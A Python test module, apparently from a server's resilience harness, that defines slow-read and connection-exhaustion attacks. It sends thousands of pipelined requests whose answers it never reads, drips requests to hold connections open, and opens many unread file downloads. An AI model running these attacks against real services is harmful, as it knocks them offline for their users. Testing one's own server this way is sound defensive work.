"""Endless requests whose answers nobody reads."""

import itertools
import re
import resource

import wire
from attack import Attack, Fate, Target
from swarm import Script, Swarm

SMALL_BUFFER = 4096  # what the attacker's kernel takes of the answers


class Unread(Attack):
    """One connection pipelines requests as fast as the server takes them, and reads none of the answers.

    The server stops taking requests once the answers wait, and cuts the connection off after 10 s. It holds a few hundred
    kilobytes for the connection, and nobody notices.
    """

    def __init__(self, name: str, path: str, *, has_token: bool = False, to_operations: bool = False):
        self.name, self.path, self.has_token, self.to_operations = name, path, has_token, to_operations

    def run(self, target: Target, fate: Fate):
        token = target.token if self.has_token else ""
        requests = wire.request("GET", self.path, token=token) * 2000
        script = Script(
            repeat=requests, reads=0, receive_buffer=SMALL_BUFFER, port=target.ops_port if self.to_operations else 0)  # fmt: skip
        Swarm(target, fate, openings=20).run(itertools.repeat(script), 1)


class Trickle(Attack):
    """Fills a connection with requests, then sends one more each 4 s, so that something always happens on it.

    A client that reads nothing gains no time by sending requests: the connection is cut off after 10 s all the same.
    """

    name = "trickle"
    seconds = 20

    def run(self, target: Target, fate: Fate):
        one = wire.request("GET", "/metrics")
        script = Script(then=one * 3000, drip=one, every=4, reads=0, receive_buffer=SMALL_BUFFER)
        Swarm(target, fate, openings=20).run(itertools.repeat(script), 1)


class FilesUnread(Attack):
    """Many connections of one address ask for a file of the page, and read nothing. Closed ones are reopened.

    The server sees no answer wait that the kernel has taken. So the kernel takes a bounded part of the answers, and keeps none of
    it for connections that the server has closed, although the attacker never closes its ends.
    """

    def __init__(self, name: str, file: str, count: int, *, times: int = 1, openings: int = 3000, seconds: int = 15, **headers: str):
        self.name, self.file, self.count, self.times, self.openings = name, file, count, times, openings
        self.seconds, self.headers = seconds, headers

    def run(self, target: Target, fate: Fate):
        _, _, page = target.ask(wire.request("GET", "/"))
        request = wire.request("GET", f"/{re.search(rb'web/[^/]+/page', page)[0].decode()}/{self.file}", **self.headers)
        status, _, _ = target.ask(request)
        if status != 200:
            fate.found.append(f"{self.file}: {status}, so this attacks nothing")
        script = Script(then=request * self.times, reads=0, receive_buffer=SMALL_BUFFER)
        count = min(self.count, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 100)
        Swarm(target, fate, openings=self.openings).run(itertools.repeat(script), count)


ALL = [
    Unread("unread-healthz", "/healthz"),
    Unread("unread-metrics", "/metrics"),
    Unread("unread-handshakes", wire.POLLING),
    Unread("unread-my-rooms", "/api/rooms/my-rooms", has_token=True),
    Unread("unread-operations", "/metrics", to_operations=True),
    Trickle(),
    FilesUnread("bundle-unread", "bundle.js", 990, times=3),
    # As many as RATE_REQUESTS allows, and answers that the kernel takes at once.
    FilesUnread("closed-unread", "board.js", 19_000, openings=550, seconds=35, Connection="close"),
]
